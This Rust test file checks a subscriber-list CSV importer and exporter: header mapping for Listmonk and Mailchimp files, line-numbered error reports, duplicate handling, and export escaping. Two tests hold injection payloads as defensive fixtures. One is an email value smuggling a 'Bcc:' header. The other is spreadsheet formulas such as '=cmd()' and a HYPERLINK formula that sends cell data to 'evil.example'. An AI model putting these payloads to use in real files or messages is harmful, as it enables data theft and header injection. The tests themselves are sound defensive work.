//! CSV import and export: the headers other tools write, every bad row reported by line, and the store side.

use crate::content::Categories;
use chrono::{DateTime, TimeZone, Utc};

use crate::email_address::SubscriberEmail;
use crate::store::{ImportSummary, Source, Status, Store};
use crate::subscribers_csv::{OnInvalid, RowError, parse_import, write_export};

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 23, 9, 0, 0).unwrap()
}

fn parse(csv: &str) -> Vec<crate::store::ImportRow> {
    parse_import(csv.as_bytes(), OnInvalid::Reject)
        .unwrap()
        .rows
}

fn errors(csv: &str) -> Vec<RowError> {
    parse_import(csv.as_bytes(), OnInvalid::Reject).unwrap_err()
}

#[test]
fn a_listmonk_file_imports_with_its_statuses() {
    let rows = parse(
        "email,name,attributes,status\n\
         ann@example.org,Ann,\"{\"\"city\"\": \"\"Oslo\"\"}\",enabled\n\
         bob@example.org,,{},blocklisted\n\
         cy@example.org,Cy,{},unconfirmed\n",
    );
    let got: Vec<(&str, Option<&str>, Status)> = rows
        .iter()
        .map(|r| {
            (
                r.email.as_str(),
                r.name.as_ref().map(|n| n.as_str()),
                r.status,
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("ann@example.org", Some("Ann"), Status::Confirmed),
            ("bob@example.org", None, Status::Unsubscribed),
            ("cy@example.org", Some("Cy"), Status::Pending),
        ]
    );
}

#[test]
fn a_mailchimp_file_joins_first_and_last_name_and_ignores_other_columns() {
    let rows = parse(
        "\u{feff}Email Address,First Name,Last Name,Address,Phone Number,MEMBER_RATING,OPTIN_TIME,CONFIRM_TIME,TAGS\n\
         Ann@Example.ORG,Ann,Lee,,,2,2024-03-01 12:00:00,2024-03-01 12:05:00,\"a,b\"\n\
         bob@example.org,,Stone,,,1,,,\n\
         cy@example.org,,,,,1,,,\n",
    );
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0].email.as_str(), "Ann@example.org");
    assert_eq!(rows[0].name.as_ref().unwrap().as_str(), "Ann Lee");
    assert_eq!(rows[0].status, Status::Confirmed);
    assert_eq!(
        rows[0].created_at,
        Some(Utc.with_ymd_and_hms(2024, 3, 1, 12, 0, 0).unwrap())
    );
    assert_eq!(
        rows[0].confirmed_at,
        Some(Utc.with_ymd_and_hms(2024, 3, 1, 12, 5, 0).unwrap())
    );
    assert_eq!(rows[1].name.as_ref().unwrap().as_str(), "Stone");
    assert_eq!(rows[2].name, None);
}

#[test]
fn mailchimp_unsubscribed_and_cleaned_exports_do_not_import_as_confirmed() {
    let unsubscribed = parse(
        "Email Address,First Name,UNSUB_TIME,UNSUB_REASON\nann@example.org,Ann,2025-01-01 10:00:00,\n",
    );
    assert_eq!(unsubscribed[0].status, Status::Unsubscribed);
    let cleaned = parse("Email Address,CLEAN_TIME\nbob@example.org,2025-01-01 10:00:00\n");
    assert_eq!(cleaned[0].status, Status::Bounced);
}

#[test]
fn headers_match_whatever_their_case_and_status_values_too() {
    let rows = parse(
        "EMAIL,Name,STATUS\nann@example.org,Ann,Subscribed\nbob@example.org,Bob,CLEANED\ncy@example.org,Cy,\n",
    );
    let statuses: Vec<Status> = rows.iter().map(|r| r.status).collect();
    assert_eq!(
        statuses,
        [Status::Confirmed, Status::Bounced, Status::Confirmed]
    );
}

#[test]
fn every_bad_row_is_reported_with_its_line_column_and_value() {
    let errs = errors(
        "email,name,status\n\
         ok@example.org,Ok,confirmed\n\
         not-an-address,X,confirmed\n\
         \n\
         fine@example.org,Fine,active\n\
         \"evil@example.org\r\nBcc: x@y.org\",Eve,confirmed\n\
         two@bad,\"multi\nline\",bogus\n",
    );
    let summary: Vec<(u64, Option<&str>, &str)> = errs
        .iter()
        .map(|e| (e.line, e.column.as_deref(), e.value.as_str()))
        .collect();
    assert_eq!(
        summary,
        [
            (3, Some("email"), "not-an-address"),
            (5, Some("status"), "active"),
            (6, Some("email"), "evil@example.org\r\nBcc: x@y.org"),
            (8, Some("name"), "multi\nline"),
            (8, Some("status"), "bogus"),
        ]
    );
    assert_eq!(
        errs[0].to_string(),
        "line 3, column \"email\": \"not-an-address\" is not an email address: it has no @"
    );
    assert!(
        errs[1].to_string().contains("\"active\" is not a status"),
        "{}",
        errs[1]
    );
}

#[test]
fn a_duplicate_address_names_both_lines() {
    let errs = errors("email\nann@example.org\nbob@example.org\nANN@example.org\n");
    assert_eq!(errs.len(), 1);
    assert_eq!(
        errs[0].to_string(),
        "line 4, column \"email\": \"ANN@example.org\" is the same address as line 2; keep one of the two rows"
    );
}

#[test]
fn a_file_without_an_email_column_is_refused_even_when_skipping_invalid_rows() {
    let errs =
        parse_import("name,status\nAnn,confirmed\n".as_bytes(), OnInvalid::Skip).unwrap_err();
    assert_eq!(errs.len(), 1);
    assert!(errs[0].message.contains("no email column"), "{}", errs[0]);
    let errs = parse_import(
        "email,Email Address\na@b.org,a@b.org\n".as_bytes(),
        OnInvalid::Skip,
    )
    .unwrap_err();
    assert!(
        errs[0].message.contains("mean the same thing"),
        "{}",
        errs[0]
    );
    let errs = parse_import("".as_bytes(), OnInvalid::Reject).unwrap_err();
    assert!(errs[0].message.contains("empty"), "{}", errs[0]);
}

#[test]
fn a_row_with_the_wrong_number_of_fields_is_reported_by_line() {
    let errs = errors("email,name\nann@example.org,Ann\nbob@example.org,Bob,extra\n");
    assert_eq!(errs.len(), 1);
    assert_eq!(errs[0].line, 3);
    assert!(
        errs[0].message.contains("3 fields but the header has 2"),
        "{}",
        errs[0]
    );
}

#[test]
fn skipping_invalid_rows_keeps_the_good_ones_and_reports_the_rest() {
    let parsed = parse_import(
        "email\nann@example.org\nbroken\nann@example.org\nbob@example.org\n".as_bytes(),
        OnInvalid::Skip,
    )
    .unwrap();
    let emails: Vec<&str> = parsed.rows.iter().map(|r| r.email.as_str()).collect();
    assert_eq!(emails, ["ann@example.org", "bob@example.org"]);
    let lines: Vec<u64> = parsed.skipped.iter().map(|e| e.line).collect();
    assert_eq!(lines, [3, 4]);
}

#[test]
fn a_file_with_a_bad_row_imports_nothing() {
    let mut store = Store::open_in_memory().unwrap();
    let result = parse_import(
        "email\nann@example.org\nbroken\n".as_bytes(),
        OnInvalid::Reject,
    );
    assert!(result.is_err());
    assert!(store.list(None).unwrap().is_empty());
    // The CLI only reaches the store with a clean parse; a clean file then imports in full.
    let rows = parse("email\nann@example.org\n");
    assert_eq!(
        store.import(&rows, now()).unwrap(),
        ImportSummary {
            added: 1,
            skipped_existing: 0
        }
    );
}

#[test]
fn an_import_does_not_resurrect_an_address_that_unsubscribed() {
    let mut store = Store::open_in_memory().unwrap();
    let email = SubscriberEmail::parse("gone@example.org").unwrap();
    let id = store
        .add(
            &email,
            None,
            &Categories::everything(),
            Status::Confirmed,
            Source::Form,
            now(),
        )
        .unwrap();
    store
        .unsubscribe(
            &crate::tokens::Link {
                subscriber_id: id,
                nonce: None,
                issued_at: now(),
            },
            &crate::store::Origin::new(crate::store::Channel::OneClick),
            now(),
        )
        .unwrap();
    let rows = parse("email,status\ngone@example.org,confirmed\n");
    let summary = store.import(&rows, now()).unwrap();
    assert_eq!(
        summary,
        ImportSummary {
            added: 0,
            skipped_existing: 1
        }
    );
    assert_eq!(
        store.subscriber(id).unwrap().unwrap().status,
        Status::Unsubscribed
    );
}

#[test]
fn an_export_imports_back_into_an_identical_list() {
    let mut source = Store::open_in_memory().unwrap();
    let rows = parse(
        "email,name,status,created_at\n\
         ann@example.org,\"Lee, Ann\",confirmed,2024-03-01T12:00:00.25Z\n\
         o'brien@x.org,,pending,\n\
         gone@example.org,=cmd(),unsubscribed,\n\
         bounced@example.org,Zoë,bounced,\n\
         -minus@example.org,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Click\"\")\",,\n\
         =eq@example.org,'quoted,,\n\
         plus@example.org,+1 @home,,\n\
         at@example.org,@Ann,,\n\
         dash@example.org,-Ann,,\n\
         q@example.org,'''=x,,\n",
    );
    source.import(&rows, now()).unwrap();
    let mut exported = Vec::new();
    write_export(&mut exported, &source.list(None).unwrap()).unwrap();
    let text = String::from_utf8(exported).unwrap();
    assert!(
        text.starts_with(
            "email,name,status,source,created_at,confirmed_at,categories,paused_until,status_reason\n"
        ),
        "{text}"
    );
    assert!(
        text.contains("ann@example.org,\"Lee, Ann\",confirmed,import,2024-03-01T12:00:00.250Z,2026-11-23T09:00:00Z,,,\n"),
        "{text}"
    );

    let mut target = Store::open_in_memory().unwrap();
    let again = parse_import(text.as_bytes(), OnInvalid::Reject)
        .unwrap()
        .rows;
    assert_eq!(again.len(), 10);
    for line in text.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {line}"
            );
        }
    }
    assert!(text.contains("'=cmd()"), "{text}");
    assert!(text.contains("''quoted"), "{text}");
    assert!(text.contains("'''=x"), "{text}");
    target.import(&again, now()).unwrap();
    let strip = |store: &Store| -> Vec<_> {
        store
            .list(None)
            .unwrap()
            .into_iter()
            .map(|s| (s.email, s.name, s.status, s.created_at, s.confirmed_at))
            .collect()
    };
    assert_eq!(strip(&target), strip(&source));
}

#[test]
fn line_numbers_count_blank_lines_crlf_line_ends_and_quoted_line_breaks() {
    for (input, expected) in [
        ("email\n\n\nbad\n", vec![4]),
        ("email\r\nbad1\r\n\r\nbad2\r\n", vec![2, 4]),
        ("email\rbad1\rbad2\r", vec![2, 3]),
        (
            "\u{feff}email,notes\r\n\"ok@x.org\",\"two\r\nlines\"\r\nbad\r\n",
            vec![4],
        ),
        ("email\nok@x.org\n\n\nbad\nbad2", vec![5, 6]),
    ] {
        let lines: Vec<u64> = errors(input).iter().map(|e| e.line).collect();
        assert_eq!(lines, expected, "{input:?}");
    }
}
